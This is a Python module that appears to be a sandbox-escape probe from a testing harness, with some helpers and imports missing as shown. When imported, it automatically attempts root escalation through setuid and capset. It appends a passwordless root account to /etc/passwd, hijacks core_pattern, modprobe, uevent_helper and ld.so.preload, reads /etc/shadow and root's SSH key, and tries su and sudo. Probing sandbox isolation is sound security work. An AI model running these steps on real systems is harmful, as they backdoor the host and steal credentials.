"""Tries to get root or capabilities back: setuid(0), capset, setuid binaries (su, sudo,
mount, newuidmap), uid_map, core_pattern / sysrq / cgroup release_agent / uevent_helper
writes, /etc/shadow; notes what capabilities and uid it runs with."""
# ---- the attack ----
import subprocess


class _H(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]


class _D(ctypes.Structure):
    _fields_ = [("e", ctypes.c_uint32), ("p", ctypes.c_uint32), ("i", ctypes.c_uint32)]


def attack():
    _note("ids", (os.getuid(), os.geteuid(), os.getgid()))
    try:
        status = open("/proc/self/status").read()
        _note("caps", [l for l in status.splitlines() if l.startswith(("Cap", "NoNewPrivs", "Seccomp"))])
    except OSError as exc:
        _note("status", exc.strerror)
    for what, fn, args in (("setuid 0", os.setuid, (0,)), ("setresuid 0", os.setresuid, (0, 0, 0)),
                           ("setgid 0", os.setgid, (0,)), ("setgroups", os.setgroups, ([0],))):
        if _try(what, fn, *args) is None and os.geteuid() == 0:
            _proof("root", what)
    full = (_D * 2)(_D(0xFFFFFFFF, 0xFFFFFFFF, 0), _D(0xFFFFFFFF, 0xFFFFFFFF, 0))
    _sys("capset all", "capset", ctypes.byref(_H(0x20080522, 0)), full)
    _sys("no_new_privs off", "prctl", 38, 0, 0, 0, 0)
    for path, text in (("/proc/self/uid_map", "0 0 1"), ("/proc/self/setgroups", "allow"),
                       ("/proc/sys/kernel/core_pattern", "|/tmp/hbx-core"), ("/proc/sysrq-trigger", "h"),
                       ("/sys/kernel/uevent_helper", "/tmp/hbx"), ("/proc/sys/kernel/modprobe", "/tmp/hbx"),
                       ("/etc/passwd", "hbx::0:0::/:/bin/sh\n"), ("/etc/ld.so.preload", "/tmp/hbx.so\n")):
        try:
            with open(path, "a") as f:
                f.write(text)
            _proof("write", path)
            _note("wrote", path)
        except OSError as exc:
            _note("write " + path, exc.strerror)
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True):
        _note("release_agent", path)
    for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history"):
        try:
            open(path).read(10)
            _proof("read", path)
            _note("read", path)
        except OSError as exc:
            _note("read " + path, exc.strerror)
    for cmd in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"],
                ["newuidmap", str(os.getpid()), "0", "0", "1"], ["id"]):
        out = _try(cmd[0], subprocess.run, cmd, capture_output=True, timeout=5, text=True, stdin=subprocess.DEVNULL)
        if out is not None:
            _note(cmd[0], f"rc={out.returncode} {(out.stdout + out.stderr).strip()[:80]}")


_try("attack at import", attack)
_try("hunt", _hunt)
